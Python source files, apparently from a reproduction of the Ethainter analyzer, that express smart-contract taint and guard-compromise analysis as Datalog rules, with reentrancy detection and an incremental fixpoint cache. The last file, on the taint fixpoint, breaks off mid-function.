                     !MappingConfined(a), ResolvedStoreSlot(s, v), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), StorageTaint(x), InputTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), ResolvedStoreSlot(s, v), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), InputTaint(x), StorageTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), ResolvedStoreSlot(s, v), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), InputTaint(x), InputTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), ResolvedStoreSlot(s, v), KnownSlot(v).
"""

# Conservative storage modeling (Fig. 8c): any tainted store through an
# unknown address smears over all known slots, and unknown-address loads
# pick up taint whenever anything tainted was stored anywhere.
CONSERVATIVE_RULES = r"""
AnyTaintedStore() :- SStoreUnknown(s, a, x), StorageTaint(x).
AnyTaintedStore() :- SStoreUnknown(s, a, x), InputTaint(x), ReachableByAttacker(s).
TaintedStorage(v) :- AnyTaintedStore(), KnownSlot(v).
AnySlotTainted() :- TaintedStorage(v).
StorageTaint(x) :- SLoadUnknown(s, a, x), AnyTaintedStore().
StorageTaint(x) :- SLoadUnknown(s, a, x), AnySlotTainted().
"""


def _facts_to_database(
    facts: ContractFacts,
    storage: StorageModel,
    guards: GuardModel,
    options: TaintOptions,
) -> Database:
    database = Database()

    for stmt in facts.program.statements():
        database.add("Stmt", (stmt.ident,))

    # One-step flows, including the constant-address memory model.
    for source, dest, stmt in facts.flow_edges:
        database.add("Infoflow", (source, dest, stmt.ident))
    for write in facts.memory_writes:
        database.add(
            "Infoflow", (write.var, memory_var(write.address), write.statement.ident)
        )
    for read in facts.memory_reads:
        database.add(
            "Infoflow", (memory_var(read.address), read.var, read.statement.ident)
        )

    for variable, stmt in facts.calldata_defs:
        database.add("CALLDATALOAD", (stmt.ident, variable))

    if options.model_guards:
        for statement_id, guard_ids in guards.guarded_statements.items():
            for guard_id in guard_ids:
                database.add("StaticallyGuardedStatement", (statement_id, guard_id))
        for guard in guards.guards:
            if guard.kind == EQ_SENDER:
                for slot in guard.compared_slots:
                    database.add("GuardComparesSlot", (guard.ident, slot))
                if guard.compared_var is not None:
                    database.add("GuardComparesVar", (guard.ident, guard.compared_var))
            elif guard.kind == DS_LOOKUP:
                database.add("GuardDsBase", (guard.ident, guard.base_var))
                if guard.mapping_slot is not None:
                    database.add("GuardDsMapping", (guard.ident, guard.mapping_slot))

    if options.model_storage_taint:
        known_slots = facts.known_slots
        for slot in known_slots:
            database.add("KnownSlot", (slot,))
        for store in facts.storage_stores:
            if store.const_slot is not None:
                database.add(
                    "SStoreConst",
                    (store.statement.ident, store.const_slot, store.value_var),
                )
                continue
            database.add(
                "SStoreUnknown",
                (store.statement.ident, store.address_var, store.value_var),
            )
            resolved = storage.resolved_store_slots.get(store.statement.ident)
            if resolved is not None:
                database.add("ResolvedStore", (store.statement.ident,))
                for slot in resolved:
                    database.add(
                        "ResolvedStoreSlot", (store.statement.ident, slot)
                    )
            for address_source in storage.copy_sources.get(
                store.address_var, {store.address_var}
            ):
                access = storage.mapping_accesses.get(address_source)
                if access is not None:
                    database.add(
                        "MappingStore",
                        (store.statement.ident, access.base_slot, access.key_var),
                    )
        for load in facts.storage_loads:
            if load.def_var is None:
                continue
            if load.const_slot is not None:
                database.add(
                    "SLoadConst", (load.statement.ident, load.const_slot, load.def_var)
                )
            else:
                database.add(
                    "SLoadUnknown",
                    (load.statement.ident, load.address_var, load.def_var),
                )
        for variable in storage.copy_sources:
            if any(
                source in storage.mapping_accesses
                for source in storage.copy_sources[variable]
            ):
                database.add("MappingConfined", (variable,))
        for variable in storage.mapping_accesses:
            database.add("MappingConfined", (variable,))
        for variable in storage.ds_vars:
            database.add("SenderKey", (variable,))
    return database


def _rules(options: TaintOptions):
    text = CORE_RULES
    if options.model_storage_taint:
        text += WRITE2_RULES
        if options.conservative_storage:
            text += CONSERVATIVE_RULES
    return parse_program(text).rules


def analyze_with_datalog(
    runtime_bytecode: Optional[bytes] = None,
    facts: Optional[ContractFacts] = None,
    storage: Optional[StorageModel] = None,
    guards: Optional[GuardModel] = None,
    options: Optional[TaintOptions] = None,
    track_provenance: bool = False,
    use_plans: bool = True,
) -> TaintResult:
    """Run the declarative bytecode analysis.

    Either pass raw ``runtime_bytecode`` or pre-extracted
    ``facts``/``storage``/``guards`` (as produced by the standard pipeline).
    Returns a :class:`TaintResult` comparable to
    :meth:`repro.core.taint.TaintAnalysis.run`'s (witness bookkeeping is not
    reconstructed — the Datalog path is the specification, not the
    reporting path).  With ``track_provenance=True`` the evaluating
    :class:`~repro.datalog.Engine` is attached as ``result.engine`` so
    callers can render derivation trees for the findings.
    ``use_plans=False`` selects the legacy interpreter (the
    ``engine="datalog-legacy"`` config value — equivalence baseline only).
    The engine's profiling counters land in ``result.engine_stats``.
    """
    options = options or TaintOptions()
    if facts is None:
        if runtime_bytecode is None:
            raise ValueError("need runtime_bytecode or extracted facts")
        program = lift(runtime_bytecode, deadline=options.deadline)
        facts = extract_facts(program)
    if storage is None:
        storage = build_storage_model(facts)
    if guards is None:
        guards = build_guard_model(facts, storage)

    database = _facts_to_database(facts, storage, guards, options)
    engine = Engine(
        _rules(options),
        track_provenance=track_provenance,
        use_plans=use_plans,
    )
    engine.evaluate(database, deadline=options.deadline)

    result = TaintResult()
    result.input_tainted = {row[0] for row in database.facts("InputTaint")}
    result.storage_tainted = {row[0] for row in database.facts("StorageTaint")}
    result.tainted_slots = {row[0] for row in database.facts("TaintedStorage")}
    result.reachable = {row[0] for row in database.facts("ReachableByAttacker")}
    result.compromised_guards = {
        row[0] for row in database.facts("CompromisedGuard")
    }
    result.writable_mappings = {row[0] for row in database.facts("WritableMapping")}
    result.iterations = engine.stats.iterations
    result.engine_stats = engine.stats.as_dict()
    if track_provenance:
        result.engine = engine  # type: ignore[attr-defined]
    return result


def explain_warning(result_engine, warning, taint: TaintResult) -> str:
    """Render a derivation tree for one analysis warning.

    Maps each vulnerability kind to the IDB fact that justifies it and asks
    the provenance-tracking engine for its proof.
    """
    from repro.core.vulnerabilities import (
        ACCESSIBLE_SELFDESTRUCT,
        TAINTED_OWNER,
    )

    if warning.kind == ACCESSIBLE_SELFDESTRUCT:
        return result_engine.format_explanation(
            "ReachableByAttacker", (warning.statement,)
        )
    if warning.kind == TAINTED_OWNER and warning.slot is not None:
        return result_engine.format_explanation("TaintedStorage", (warning.slot,))
    # Tainted selfdestruct/delegatecall/staticcall: explain the taint on the
    # sensitive variable named in the detail text where possible; fall back
    # to the statement's reachability.
    for relation in ("StorageTaint", "InputTaint"):
        for token in warning.detail.split():
            probe = (relation, (token,))
            if probe in result_engine.provenance:
                return result_engine.format_explanation(relation, (token,))
    return result_engine.format_explanation(
        "ReachableByAttacker", (warning.statement,)
    )
