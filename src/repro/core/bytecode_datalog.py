"""The bytecode-level Ethainter analysis as Datalog rules (paper §5).

The paper's implementation is "several hundred declarative rules in the
Datalog language" executed by Soufflé.  :mod:`repro.core.taint` implements
the same logic as a hand-written Python fixpoint (the fast path used by the
benchmarks); this module states the rules declaratively on
:mod:`repro.datalog` — the Figure 5 skeleton, elaborated with the two taint
flavors and the guard-compromise machinery — and runs them on the engine.

``analyze_with_datalog`` produces a :class:`~repro.core.taint.TaintResult`
from the Datalog fixpoint; the test suite checks it coincides with the
Python fixpoint over the whole corpus and under every ablation.

Rule inventory (relations named after Figure 5 where they exist there):

EDB (extracted facts):
    Stmt(s)                       every TAC statement
    Infoflow(x, y, s)             one-step flow x -> y at statement s
    CALLDATALOAD(s, x)            taint source (Fig. 5 verbatim)
    StaticallyGuardedStatement(s, g)
    GuardComparesSlot(g, v)       EQ_SENDER guard g compares slot v
    GuardComparesVar(g, x)        ... and the compared variable
    GuardDsBase(g, x)             DS_LOOKUP guard's condition variable
    GuardDsMapping(g, b)          DS_LOOKUP guard's root mapping slot
    SStoreConst(s, v, x)          store x to constant slot v
    SStoreUnknown(s, a, x)        store through non-constant address a
    MappingStore(s, b, k)         store resolved to mapping b with key k
    SenderKey(k)                  k is sender-derived (DS)
    MappingConfined(a)            address a resolves to a mapping element
    SLoadConst(s, v, x)           load constant slot v into x
    KnownSlot(v)                  constant slots arising in the analysis
    ResolvedStore(s)              value analysis bounded store s's address
    ResolvedStoreSlot(s, v)       ... and v is one of its candidate slots

Reentrancy ordering stratum (from :mod:`repro.core.ordering`; only emitted
when the contract has a reentrancy-capable call, so call-free contracts
keep a byte-identical EDB/ruleset):

    ReentrancyCall(c)             gas-forwarding CALL/CALLCODE statement c
    CallBeforeStore(c, s, p)      store s to path p on a path after call c
    CallPathRead(c, p)            path p loaded before call c
    MutexedCall(c)                a storage mutex protects call c

IDB:
    ReachableByAttacker(s), Guarded(s) [projection for negation],
    InputTaint(x), StorageTaint(x), TaintedStorage(v),
    WritableMapping(b), CompromisedGuard(g),
    GuardedByMutex(c), ReentrantCall(c), StateWriteAfterCall(c)
"""

from __future__ import annotations

import hashlib
from collections import OrderedDict
from typing import Dict, List, Optional, Set, Tuple

from repro.core.facts import ContractFacts, extract_facts
from repro.core.guards import DS_LOOKUP, EQ_SENDER, GuardModel, build_guard_model
from repro.core.ordering import CallOrderModel, build_call_order_model
from repro.core.storage_model import StorageModel, build_storage_model, memory_var
from repro.core.taint import TaintOptions, TaintResult
from repro.datalog import Database, Engine, parse_program
from repro.decompiler import lift

# --------------------------------------------------------------------- rules

# Core mutual recursion (Fig. 5), flavored per the formal model (Fig. 3).
CORE_RULES = r"""
Guarded(s) :- StaticallyGuardedStatement(s, g).

// s is reachable if not guarded (Fig. 5) ...
ReachableByAttacker(s) :- Stmt(s), !Guarded(s).
// ... or if (any of) its guard(s) is compromised — tainted or bypassable.
ReachableByAttacker(s) :- StaticallyGuardedStatement(s, g), CompromisedGuard(g).

// Taint introduction: attacker calldata at attacker-executable statements.
InputTaint(x) :- CALLDATALOAD(s, x), ReachableByAttacker(s).

// Input taint propagates only through attacker-executable statements
// (Guard-2: the attacker's transaction reverts at an effective guard).
InputTaint(y) :- Infoflow(x, y, s), InputTaint(x), ReachableByAttacker(s).

// Storage taint propagates through every statement (Guard-1: the
// privileged caller executes guarded code over poisoned state).
StorageTaint(y) :- Infoflow(x, y, s), StorageTaint(x).

// StorageWrite-1: a tainted value stored to a constant slot.
TaintedStorage(v) :- SStoreConst(s, v, x), StorageTaint(x).
TaintedStorage(v) :- SStoreConst(s, v, x), InputTaint(x), ReachableByAttacker(s).

// StorageLoad: loads from tainted slots carry storage taint anywhere.
StorageTaint(x) :- SLoadConst(s, v, x), TaintedStorage(v).

// Guard compromise: Uguard-T (sender compared against a tainted slot) ...
CompromisedGuard(g) :- GuardComparesSlot(g, v), TaintedStorage(v).
CompromisedGuard(g) :- GuardComparesVar(g, x), InputTaint(x).
CompromisedGuard(g) :- GuardComparesVar(g, x), StorageTaint(x).
// ... or a sender-keyed lookup into an attacker-writable mapping.
CompromisedGuard(g) :- GuardDsMapping(g, b), WritableMapping(b).
CompromisedGuard(g) :- GuardDsBase(g, x), InputTaint(x).
CompromisedGuard(g) :- GuardDsBase(g, x), StorageTaint(x).

// A mapping is attacker-writable if a reachable store targets one of its
// elements with a key the attacker chooses (tainted) or is (the sender).
WritableMapping(b) :- MappingStore(s, b, k), StorageTaint(k), ReachableByAttacker(s).
WritableMapping(b) :- MappingStore(s, b, k), InputTaint(k), ReachableByAttacker(s).
WritableMapping(b) :- MappingStore(s, b, k), SenderKey(k), ReachableByAttacker(s).
"""

# StorageWrite-2 (the over-approximation): value- and address-tainted store
# through an address NOT confined to a mapping taints every known slot —
# unless the value-analysis stratum bounded the address (ResolvedStore), in
# which case only the candidate slots are tainted.  Four flavor
# combinations each way, input flavors requiring reachability.  With the
# stratum disabled both Resolved* relations are empty, so the first four
# rules degenerate to the original smear and the rest never fire.
WRITE2_RULES = r"""
TaintedStorage(v) :- SStoreUnknown(s, a, x), StorageTaint(x), StorageTaint(a),
                     !MappingConfined(a), !ResolvedStore(s), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), StorageTaint(x), InputTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), !ResolvedStore(s), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), InputTaint(x), StorageTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), !ResolvedStore(s), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), InputTaint(x), InputTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), !ResolvedStore(s), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), StorageTaint(x), StorageTaint(a),
                     !MappingConfined(a), ResolvedStoreSlot(s, v), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), StorageTaint(x), InputTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), ResolvedStoreSlot(s, v), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), InputTaint(x), StorageTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), ResolvedStoreSlot(s, v), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), InputTaint(x), InputTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), ResolvedStoreSlot(s, v), KnownSlot(v).
"""

# Conservative storage modeling (Fig. 8c): any tainted store through an
# unknown address smears over all known slots, and unknown-address loads
# pick up taint whenever anything tainted was stored anywhere.
CONSERVATIVE_RULES = r"""
AnyTaintedStore() :- SStoreUnknown(s, a, x), StorageTaint(x).
AnyTaintedStore() :- SStoreUnknown(s, a, x), InputTaint(x), ReachableByAttacker(s).
TaintedStorage(v) :- AnyTaintedStore(), KnownSlot(v).
AnySlotTainted() :- TaintedStorage(v).
StorageTaint(x) :- SLoadUnknown(s, a, x), AnyTaintedStore().
StorageTaint(x) :- SLoadUnknown(s, a, x), AnySlotTainted().
"""

# Reentrancy stratum (rule shapes after Chinen et al. / Samreen & Alalfi):
# a gas-forwarding call the attacker reaches, followed by a write to a
# storage path that the code also *checked* before the call, with no mutex
# on the way, lets the callee re-enter while the check sees stale state.
# ReentrantCall composes with the escalation machinery for free: an
# owner-guarded withdraw becomes ReachableByAttacker — hence reentrant —
# once CompromisedGuard fires on its guard (the tainted-owner chain).
# StateWriteAfterCall is the weaker checks-effects-interactions residue,
# derived in a later stratum so it never double-reports a ReentrantCall.
REENTRANCY_RULES = r"""
GuardedByMutex(c) :- MutexedCall(c).
ReentrantCall(c) :- ReentrancyCall(c), CallBeforeStore(c, s, p), CallPathRead(c, p),
                    ReachableByAttacker(c), !GuardedByMutex(c).
StateWriteAfterCall(c) :- ReentrancyCall(c), CallBeforeStore(c, s, p),
                          ReachableByAttacker(c), !GuardedByMutex(c), !ReentrantCall(c).
"""


def _facts_to_edb(
    facts: ContractFacts,
    storage: StorageModel,
    guards: GuardModel,
    options: TaintOptions,
    ordering: Optional[CallOrderModel] = None,
) -> Dict[str, Set[Tuple]]:
    """The EDB as plain per-relation fact sets.

    Keeping the extraction separate from :class:`Database` loading lets the
    warm-engine path diff two EDBs and repair a live fixpoint incrementally
    instead of re-evaluating from scratch.
    """
    database = _EdbBuilder()

    for stmt in facts.program.statements():
        database.add("Stmt", (stmt.ident,))

    # One-step flows, including the constant-address memory model.
    for source, dest, stmt in facts.flow_edges:
        database.add("Infoflow", (source, dest, stmt.ident))
    for write in facts.memory_writes:
        database.add(
            "Infoflow", (write.var, memory_var(write.address), write.statement.ident)
        )
    for read in facts.memory_reads:
        database.add(
            "Infoflow", (memory_var(read.address), read.var, read.statement.ident)
        )

    for variable, stmt in facts.calldata_defs:
        database.add("CALLDATALOAD", (stmt.ident, variable))

    if options.model_guards:
        for statement_id, guard_ids in guards.guarded_statements.items():
            for guard_id in guard_ids:
                database.add("StaticallyGuardedStatement", (statement_id, guard_id))
        for guard in guards.guards:
            if guard.kind == EQ_SENDER:
                for slot in guard.compared_slots:
                    database.add("GuardComparesSlot", (guard.ident, slot))
                if guard.compared_var is not None:
                    database.add("GuardComparesVar", (guard.ident, guard.compared_var))
            elif guard.kind == DS_LOOKUP:
                database.add("GuardDsBase", (guard.ident, guard.base_var))
                if guard.mapping_slot is not None:
                    database.add("GuardDsMapping", (guard.ident, guard.mapping_slot))

    if options.model_storage_taint:
        known_slots = facts.known_slots
        for slot in known_slots:
            database.add("KnownSlot", (slot,))
        for store in facts.storage_stores:
            if store.const_slot is not None:
                database.add(
                    "SStoreConst",
                    (store.statement.ident, store.const_slot, store.value_var),
                )
                continue
            database.add(
                "SStoreUnknown",
                (store.statement.ident, store.address_var, store.value_var),
            )
            resolved = storage.resolved_store_slots.get(store.statement.ident)
            if resolved is not None:
                database.add("ResolvedStore", (store.statement.ident,))
                for slot in resolved:
                    database.add(
                        "ResolvedStoreSlot", (store.statement.ident, slot)
                    )
            for address_source in storage.copy_sources.get(
                store.address_var, {store.address_var}
            ):
                access = storage.mapping_accesses.get(address_source)
                if access is not None:
                    database.add(
                        "MappingStore",
                        (store.statement.ident, access.base_slot, access.key_var),
                    )
        for load in facts.storage_loads:
            if load.def_var is None:
                continue
            if load.const_slot is not None:
                database.add(
                    "SLoadConst", (load.statement.ident, load.const_slot, load.def_var)
                )
            else:
                database.add(
                    "SLoadUnknown",
                    (load.statement.ident, load.address_var, load.def_var),
                )
        for variable in storage.copy_sources:
            if any(
                source in storage.mapping_accesses
                for source in storage.copy_sources[variable]
            ):
                database.add("MappingConfined", (variable,))
        for variable in storage.mapping_accesses:
            database.add("MappingConfined", (variable,))
        for variable in storage.ds_vars:
            database.add("SenderKey", (variable,))

    # Reentrancy ordering stratum: emitted only for reentrancy-capable
    # calls, independent of the ablation flags, so call-free contracts
    # keep a byte-identical EDB.
    if ordering is not None:
        for site in ordering.call_sites.values():
            if not site.reentrancy_capable:
                continue
            database.add("ReentrancyCall", (site.statement_id,))
            if site.mutex_guarded:
                database.add("MutexedCall", (site.statement_id,))
            for path, store_ids in site.stores_after.items():
                for store_id in store_ids:
                    database.add(
                        "CallBeforeStore", (site.statement_id, store_id, path)
                    )
            for path in site.paths_read_before:
                database.add("CallPathRead", (site.statement_id, path))
    return database.relations


class _EdbBuilder:
    """Minimal ``Database.add``-shaped collector used by ``_facts_to_edb``."""

    __slots__ = ("relations",)

    def __init__(self) -> None:
        self.relations: Dict[str, Set[Tuple]] = {}

    def add(self, relation: str, fact: Tuple) -> None:
        self.relations.setdefault(relation, set()).add(fact)


def _load_edb(edb: Dict[str, Set[Tuple]]) -> Database:
    database = Database()
    for relation, rows in edb.items():
        database.add_all(relation, rows)
    return database


def _rules(options: TaintOptions, reentrancy: bool = False):
    text = CORE_RULES
    if options.model_storage_taint:
        text += WRITE2_RULES
        if options.conservative_storage:
            text += CONSERVATIVE_RULES
    if reentrancy:
        text += REENTRANCY_RULES
    return parse_program(text).rules


def _contract_key(
    runtime_bytecode: Optional[bytes], edb: Dict[str, Set[Tuple]]
) -> str:
    """A stable identity for the analyzed contract.

    Prefers the bytecode digest; falls back to hashing the flag-insensitive
    base relations (always emitted regardless of :class:`TaintOptions`) so
    pre-extracted facts still key consistently across option flips.
    """
    digest = hashlib.sha256()
    if runtime_bytecode is not None:
        digest.update(runtime_bytecode)
        return digest.hexdigest()
    for relation in ("Stmt", "Infoflow", "CALLDATALOAD"):
        digest.update(relation.encode())
        for fact in sorted(edb.get(relation, ()), key=repr):
            digest.update(repr(fact).encode())
    return digest.hexdigest()


class WarmEngineCache:
    """LRU of live Datalog fixpoints repaired incrementally across calls.

    Keyed by (contract identity, ruleset flags, engine mode).  A repeated
    analysis of the same contract whose EDB differs — e.g. the Fig. 8
    ablation battery flipping ``model_guards``, which changes the extracted
    facts but not the ruleset — diffs the EDBs and hands the delta to
    :meth:`Engine.apply_changes` (DRed) instead of re-running the fixpoint
    from scratch.  Identical EDBs reuse the fixpoint outright.
    """

    def __init__(self, maxsize: int = 8) -> None:
        self.maxsize = maxsize
        # key -> (engine, database, edb snapshot)
        self._entries: "OrderedDict[Tuple, Tuple[Engine, Database, dict]]" = (
            OrderedDict()
        )
        self.hits = 0
        self.misses = 0
        self.repairs = 0

    def stats(self) -> Dict[str, int]:
        return {
            "hits": self.hits,
            "misses": self.misses,
            "repairs": self.repairs,
            "entries": len(self._entries),
        }

    def fixpoint(
        self,
        contract_key: str,
        options: TaintOptions,
        edb: Dict[str, Set[Tuple]],
        rules,
        track_provenance: bool,
        use_plans: bool,
        columnar: Optional[bool],
        reentrancy: bool = False,
    ) -> Tuple[Engine, Database]:
        key = (
            contract_key,
            options.model_storage_taint,
            options.conservative_storage,
            track_provenance,
            use_plans,
            bool(columnar),
            reentrancy,  # the ruleset differs when the stratum is active
        )
        entry = self._entries.get(key)
        if entry is not None and use_plans:
            self._entries.move_to_end(key)
            engine, database, cached_edb = entry
            additions = {
                relation: rows - cached_edb.get(relation, set())
                for relation, rows in edb.items()
            }
            retractions = {
                relation: rows - edb.get(relation, set())
                for relation, rows in cached_edb.items()
            }
            additions = {rel: rows for rel, rows in additions.items() if rows}
            retractions = {rel: rows for rel, rows in retractions.items() if rows}
            if additions or retractions:
                engine.apply_changes(
                    additions, retractions, deadline=options.deadline
                )
                self.repairs += 1
            else:
                self.hits += 1
            self._entries[key] = (engine, database, edb)
            return engine, database
        self.misses += 1
        database = _load_edb(edb)
        engine = Engine(
            rules,
            track_provenance=track_provenance,
            use_plans=use_plans,
            columnar=columnar,
        )
        engine.evaluate(database, deadline=options.deadline)
        if use_plans:  # DRed repair needs the compiled plans
            self._entries[key] = (engine, database, edb)
            while len(self._entries) > self.maxsize:
                self._entries.popitem(last=False)
        return engine, database


def analyze_with_datalog(
    runtime_bytecode: Optional[bytes] = None,
    facts: Optional[ContractFacts] = None,
    storage: Optional[StorageModel] = None,
    guards: Optional[GuardModel] = None,
    options: Optional[TaintOptions] = None,
    track_provenance: bool = False,
    use_plans: bool = True,
    columnar: Optional[bool] = None,
    warm: Optional[WarmEngineCache] = None,
    ordering: Optional[CallOrderModel] = None,
) -> TaintResult:
    """Run the declarative bytecode analysis.

    Either pass raw ``runtime_bytecode`` or pre-extracted
    ``facts``/``storage``/``guards`` (as produced by the standard pipeline).
    Returns a :class:`TaintResult` comparable to
    :meth:`repro.core.taint.TaintAnalysis.run`'s (witness bookkeeping is not
    reconstructed — the Datalog path is the specification, not the
    reporting path).  With ``track_provenance=True`` the evaluating
    :class:`~repro.datalog.Engine` is attached as ``result.engine`` so
    callers can render derivation trees for the findings.
    ``use_plans=False`` selects the legacy interpreter (the
    ``engine="datalog-legacy"`` config value — equivalence baseline only);
    ``columnar=True`` the batch columnar executor (``datalog-columnar``).
    Passing a :class:`WarmEngineCache` as ``warm`` reuses a live fixpoint
    for repeat analyses of the same contract, repairing it via DRed when
    the extracted EDB changed (e.g. an ablation flag flip).
    The engine's profiling counters land in ``result.engine_stats``.
    """
    options = options or TaintOptions()
    if facts is None:
        if runtime_bytecode is None:
            raise ValueError("need runtime_bytecode or extracted facts")
        program = lift(runtime_bytecode, deadline=options.deadline)
        facts = extract_facts(program)
    if storage is None:
        storage = build_storage_model(facts)
    if guards is None:
        guards = build_guard_model(facts, storage)
    if ordering is None:
        ordering = build_call_order_model(facts, storage, guards)

    edb = _facts_to_edb(facts, storage, guards, options, ordering=ordering)
    reentrancy = "ReentrancyCall" in edb
    rules = _rules(options, reentrancy=reentrancy)
    if warm is not None:
        engine, database = warm.fixpoint(
            _contract_key(runtime_bytecode, edb),
            options,
            edb,
            rules,
            track_provenance,
            use_plans,
            columnar,
            reentrancy=reentrancy,
        )
    else:
        database = _load_edb(edb)
        engine = Engine(
            rules,
            track_provenance=track_provenance,
            use_plans=use_plans,
            columnar=columnar,
        )
        engine.evaluate(database, deadline=options.deadline)

    result = TaintResult()
    result.input_tainted = {row[0] for row in database.facts("InputTaint")}
    result.storage_tainted = {row[0] for row in database.facts("StorageTaint")}
    result.tainted_slots = {row[0] for row in database.facts("TaintedStorage")}
    result.reachable = {row[0] for row in database.facts("ReachableByAttacker")}
    result.compromised_guards = {
        row[0] for row in database.facts("CompromisedGuard")
    }
    result.writable_mappings = {row[0] for row in database.facts("WritableMapping")}
    result.iterations = engine.stats.iterations
    result.engine_stats = engine.stats.as_dict()
    if track_provenance:
        result.engine = engine  # type: ignore[attr-defined]
    return result


def explain_warning(result_engine, warning, taint: TaintResult) -> str:
    """Render a derivation tree for one analysis warning.

    Maps each vulnerability kind to the IDB fact that justifies it and asks
    the provenance-tracking engine for its proof.
    """
    from repro.core.vulnerabilities import (
        ACCESSIBLE_SELFDESTRUCT,
        REENTRANT_CALL,
        STATE_WRITE_AFTER_CALL,
        TAINTED_OWNER,
    )

    if warning.kind == ACCESSIBLE_SELFDESTRUCT:
        return result_engine.format_explanation(
            "ReachableByAttacker", (warning.statement,)
        )
    if warning.kind == TAINTED_OWNER and warning.slot is not None:
        return result_engine.format_explanation("TaintedStorage", (warning.slot,))
    if warning.kind == REENTRANT_CALL:
        return result_engine.format_explanation(
            "ReentrantCall", (warning.statement,)
        )
    if warning.kind == STATE_WRITE_AFTER_CALL:
        return result_engine.format_explanation(
            "StateWriteAfterCall", (warning.statement,)
        )
    # Tainted selfdestruct/delegatecall/staticcall: explain the taint on the
    # sensitive variable named in the detail text where possible; fall back
    # to the statement's reachability.
    for relation in ("StorageTaint", "InputTaint"):
        for token in warning.detail.split():
            probe = (relation, (token,))
            if probe in result_engine.provenance:
                return result_engine.format_explanation(relation, (token,))
    return result_engine.format_explanation(
        "ReachableByAttacker", (warning.statement,)
    )
