"""The composite taint / attacker-reachability fixpoint (paper §4, §5).

This is the heart of Ethainter: the mutual recursion of Figure 5 —
``TaintedFlow`` / ``AttackerModelInfoflow`` / ``ReachableByAttacker`` /
``StaticallyGuardedStatement`` — refined with the two taint *flavors* of the
formal model (Figure 3):

* **input taint** (``↓I``) — attacker calldata within one transaction.  It
  propagates only through statements the attacker can execute
  (``ReachableByAttacker``): a guarded statement never sees the attacker's
  input because the attacker's transaction reverts at the guard
  (rule Guard-2), while the privileged caller's inputs are trusted.
* **storage taint** (``↓T``) — taint that reached persistent storage.  It
  propagates through *all* statements, guarded or not: the privileged user
  executes the guarded code in their own transactions and thereby carries
  the poisoned state onward (rule Guard-1, "taint through storage eludes
  guards").

Guards are *compromised* — making their protected statements attacker
reachable, the composite escalation of §2 — when:

* an ``EQ_SENDER`` guard compares the sender against a tainted storage slot
  (rule Uguard-T) or against a tainted variable, or
* a ``DS_LOOKUP`` guard reads a mapping the attacker can write arbitrary
  elements of (an attacker-reachable store through a hash-derived address
  whose key is tainted or sender-controlled — the ``registerSelf`` /
  ``referAdmin`` escalation of the paper's Illustration).

Over-approximation StorageWrite-2: a store with *both* address and value
tainted taints every constant slot known to the analysis.

The ablation switches correspond to Figure 8: ``model_guards=False`` (8b),
``model_storage_taint=False`` (8a), ``conservative_storage=True`` (8c).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.core.facts import ContractFacts
from repro.core.guards import DS_LOOKUP, EQ_SENDER, GuardModel
from repro.core.storage_model import StorageModel, memory_var


@dataclass
class TaintOptions:
    """Analysis design switches (Figure 8 ablations)."""

    model_guards: bool = True
    model_storage_taint: bool = True
    conservative_storage: bool = False
    max_iterations: int = 10_000
    # Cooperative wall-clock budget (duck-typed: ``check()`` raises when
    # spent), checked once per fixpoint iteration so a slow-converging run
    # respects the paper's 120 s decompile+analyze cutoff.
    deadline: Optional[object] = None


@dataclass
class TaintResult:
    """Fixpoint output."""

    input_tainted: Set[str] = field(default_factory=set)
    storage_tainted: Set[str] = field(default_factory=set)
    tainted_slots: Set[int] = field(default_factory=set)
    reachable: Set[str] = field(default_factory=set)
    compromised_guards: Set[str] = field(default_factory=set)
    writable_mappings: Set[int] = field(default_factory=set)
    # Witness source (a CALLDATALOAD statement id) per tainted variable/slot.
    witness: Dict[str, str] = field(default_factory=dict)
    slot_witness: Dict[int, str] = field(default_factory=dict)
    iterations: int = 0
    # Datalog-engine observability (EngineStats.as_dict()); None when the
    # tuned Python fixpoint produced this result.
    engine_stats: Optional[Dict] = None

    def is_tainted(self, variable: str) -> bool:
        return variable in self.input_tainted or variable in self.storage_tainted

    def is_reachable(self, statement_id: str) -> bool:
        return statement_id in self.reachable


class TaintAnalysis:
    """Runs the fixpoint for one contract."""

    def __init__(
        self,
        facts: ContractFacts,
        storage: StorageModel,
        guards: GuardModel,
        options: Optional[TaintOptions] = None,
    ):
        self.facts = facts
        self.storage = storage
        self.guards = guards
        self.options = options or TaintOptions()
        self._edges = self._build_edges()

    # --------------------------------------------------------------- edges

    def _build_edges(self) -> List[Tuple[str, str, str]]:
        """(source var, dest var, statement id) data-flow edges, including
        the constant-address memory model (§5: memory modeled like
        variables, taint sanitized like input taint)."""
        edges: List[Tuple[str, str, str]] = []
        for source, dest, stmt in self.facts.flow_edges:
            edges.append((source, dest, stmt.ident))
        for write in self.facts.memory_writes:
            edges.append((write.var, memory_var(write.address), write.statement.ident))
        for read in self.facts.memory_reads:
            edges.append((memory_var(read.address), read.var, read.statement.ident))
        return edges

    # ------------------------------------------------------------ fixpoint

    def run(self) -> TaintResult:
        result = TaintResult()
        facts, options = self.facts, self.options
        guarded = self.guards.guarded_statements if options.model_guards else {}

        def reachable(statement_id: str) -> bool:
            guard_ids = guarded.get(statement_id)
            if not guard_ids:
                return True
            return any(g in result.compromised_guards for g in guard_ids)

        def taint_input(variable: str, source: str) -> bool:
            if variable in result.input_tainted:
                return False
            result.input_tainted.add(variable)
            result.witness.setdefault(variable, source)
            return True

        def taint_storage_var(variable: str, source: str) -> bool:
            if variable in result.storage_tainted:
                return False
